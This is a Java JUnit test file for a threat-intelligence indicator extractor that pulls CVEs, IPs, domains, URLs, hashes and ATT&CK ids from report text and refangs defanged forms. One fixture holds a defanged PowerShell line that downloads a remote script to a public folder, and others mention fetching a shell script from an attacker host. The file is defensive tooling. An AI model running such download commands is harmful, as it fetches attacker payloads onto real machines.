package dev.newsdigest.summarize;

import java.util.List;
import java.util.Set;

import dev.newsdigest.model.Ioc;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class IocExtractorTest {
    private final IocExtractor extractor = new IocExtractor(Set.of("news.example"));

    @Test
    void findsEachTypeInOrderOfAppearance() {
        List<Ioc> iocs = extractor.find("""
                CVE-2025-64446 was used from 203.0.113.45 and 2001:db8::1 to fetch hxxps://evil[.]example[.]net/a.sh,
                mail went to ops[@]attacker[.]org, C2 at c2.attacker.io, technique T1059.001,
                md5 5d41402abc4b2a76b9719d911017c592 and sha256 9f2b5c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9.""");
        assertThat(iocs).containsExactly(
                new Ioc("cve", "CVE-2025-64446"),
                new Ioc("ipv4", "203.0.113.45"),
                new Ioc("ipv6", "2001:db8::1"),
                new Ioc("url", "https://evil.example.net/a.sh"),
                new Ioc("email", "ops@attacker.org"),
                new Ioc("domain", "c2.attacker.io"),
                new Ioc("attack_technique", "T1059.001"),
                new Ioc("md5", "5d41402abc4b2a76b9719d911017c592"),
                new Ioc("sha256", "9f2b5c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"));
    }

    @Test
    void versionsOutOfRangeQuadsFileNamesAndLongHexRunsAreNotIocs() {
        assertThat(extractor.find("""
                Update to 2.1.8 now; 999.1.1.1 is no address. Open invoice.pdf or setup.exe.
                A 70-digit hex run aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa is no hash.""")).isEmpty();
    }

    @Test
    void aCveIdNeedsAYearFrom1999ToNextYear() {
        int next = java.time.Year.now(java.time.ZoneOffset.UTC).getValue() + 1;
        assertThat(extractor.find("CVE-0000-0000, CVE-1998-1234, CVE-1999-0001, CVE-" + next + "-1234 and CVE-" + (next + 1) + "-1234"))
                .containsExactly(new Ioc("cve", "CVE-1999-0001"), new Ioc("cve", "CVE-" + next + "-1234"));
        assertThat(extractor.classify("CVE-0000-0000")).isNull();
    }

    @Test
    void ignoredDomainsAndTheirSubdomainsAreLeftOut() {
        assertThat(extractor.find("Read more at www.news.example/story and https://news.example/x")).isEmpty();
    }

    @Test
    void refangsTheCommonForms() {
        assertThat(IocExtractor.refang("hXXps://a[.]b(.)c[dot]d/x user[at]e(dot)f 10[.]0[.]0[.]1 fe80[:]1"))
                .isEqualTo("https://a.b.c.d/x user@e.f 10.0.0.1 fe80:1");
    }

    @Test
    void englishThreatReportWithTableCodeBlockAndListIsReadWhole() {
        var report = new IocExtractor(Set.of("cisa.gov")).byType("""
                ## Indicators

                | Type | Indicator | Notes |
                |------|-----------|-------|
                | IPv4 | 45.155.205[.]233 | C2 over 443/tcp |
                | Domain | update-cdn[.]net | staging |
                | SHA-256 | `E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855` | loader |

                ```
                powershell -enc ... ; iwr hxxp://185.220.101[.]4/p.ps1 -OutFile C:\\Users\\Public\\p.ps1
                ```

                - Phishing sender: billing[at]update-cdn[.]net
                - Exploited: CVE-2023-4966 (Citrix Bleed), technique T1190 and T1059.001
                - Not IOCs: version 7.4.2, the file invoice.pdf, the advisory at https://www.cisa.gov/kev
                """);
        assertThat(report.get("ipv4")).containsExactly("45.155.205.233", "185.220.101.4");
        assertThat(report.get("domain")).containsExactly("update-cdn.net");
        assertThat(report.get("sha256")).containsExactly("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        assertThat(report.get("url")).containsExactly("http://185.220.101.4/p.ps1");
        assertThat(report.get("email")).containsExactly("billing@update-cdn.net");
        assertThat(report.get("cve")).containsExactly("CVE-2023-4966");
        assertThat(report.get("attack_technique")).containsExactly("T1190", "T1059.001");
        assertThat(report).containsOnlyKeys(IocExtractor.TYPES).allSatisfy((type, values) -> assertThat(values).doesNotHaveDuplicates());
    }

    @Test
    void japaneseReportKeepsIocsNextToJapanesePunctuation() {
        var report = extractor.byType("""
                攻撃者は「hxxps://login-microsoft365[.]com/auth」に誘導し、認証情報を窃取した。
                通信先：203.0.113[.]10、および badupdate[.]jp。
                ハッシュ値（SHA-1）：DA39A3EE5E6B4B0D3255BFEF95601890AFD80709
                脆弱性CVE-2024-21762が悪用された。""");
        assertThat(report.get("url")).containsExactly("https://login-microsoft365.com/auth");
        assertThat(report.get("ipv4")).containsExactly("203.0.113.10");
        assertThat(report.get("domain")).containsExactly("login-microsoft365.com", "badupdate.jp"); // the URL's host comes first
        assertThat(report.get("sha1")).containsExactly("da39a3ee5e6b4b0d3255bfef95601890afd80709");
        assertThat(report.get("cve")).containsExactly("CVE-2024-21762");
    }

    @Test
    void theNewsSitesOwnDomainIsLeftOutInThePipeline() {
        String text = "Read the analysis at https://www.bleepingcomputer.com/news/x and contact tips@bleepingcomputer.com; C2 at evil-c2.com";
        assertThat(extractor.find(text, IocExtractor.siteOfArticle("https://www.bleepingcomputer.com/news/security/y/")))
                .containsExactly(new Ioc("domain", "evil-c2.com"));
        assertThat(IocExtractor.siteOf("https://www.news.example.co.jp/a")).isEqualTo("example.co.jp");
    }

    @org.junit.jupiter.params.ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.CsvSource(delimiter = '|', value = {
            "hxxp://evil.example.com/a            | url    | http://evil.example.com/a",
            "hXXps://evil.example.com/a           | url    | https://evil.example.com/a",
            "https[:]//evil.example.com/a         | url    | https://evil.example.com/a",
            "evil[.]example[.]com                 | domain | evil.example.com",
            "evil(.)example(.)com                 | domain | evil.example.com",
            "evil[dot]example[dot]com             | domain | evil.example.com",
            "evil(dot)example(dot)com             | domain | evil.example.com",
            "ops[@]evil.example.com               | email  | ops@evil.example.com",
            "ops[at]evil[.]example[.]com          | email  | ops@evil.example.com",
            "192[.]0[.]2[.]44                     | ipv4   | 192.0.2.44",
            "2001[:]db8::44                       | ipv6   | 2001:db8::44"})
    void everyDefangFormIsRecognised(String text, String type, String value) {
        assertThat(extractor.find(text)).contains(new Ioc(type, value));
    }

    @org.junit.jupiter.params.ParameterizedTest(name = "{0} is {1}")
    @org.junit.jupiter.params.provider.CsvSource(delimiter = '|', value = {
            "d41d8cd98f00b204e9800998ecf8427e                                                                                                   | md5",
            "da39a3ee5e6b4b0d3255bfef95601890afd80709                                                                                           | sha1",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855                                                                   | sha256",
            "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e   | sha512",
            "CVE-2021-44228                                                                                                                     | cve",
            "T1566                                                                                                                              | attack_technique",
            "T1566.002                                                                                                                          | attack_technique",
            "fe80::1ff:fe23:4567:890a                                                                                                           | ipv6"})
    void everyTypeIsFoundAndTyped(String value, String type) {
        assertThat(extractor.find("Indicator: " + value + ".")).containsExactly(new Ioc(type, value));
    }

    @org.junit.jupiter.params.ParameterizedTest(name = "not an IOC: {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {
            "version 2.1.8 is fixed",                       // a shorter version string is no IPv4
            "the octets 256.1.1.1 and 1.2.3.999",           // octets above 255
            "open setup.exe or report.docx or run.ps1",     // file names are not domains
            "hex run 0123456789abcdef0123456789abcdef01",    // 34 hex digits: no hash inside a longer run
            "CVE-20-1234 and T12 are malformed",             // malformed ids
            "the time 10:30:15 and ratio 3:2",               // not IPv6
            "mail to someone@localhost"})                    // no public suffix
    void lookalikesAreNotIocs(String text) {
        assertThat(extractor.find(text)).isEmpty();
    }
}
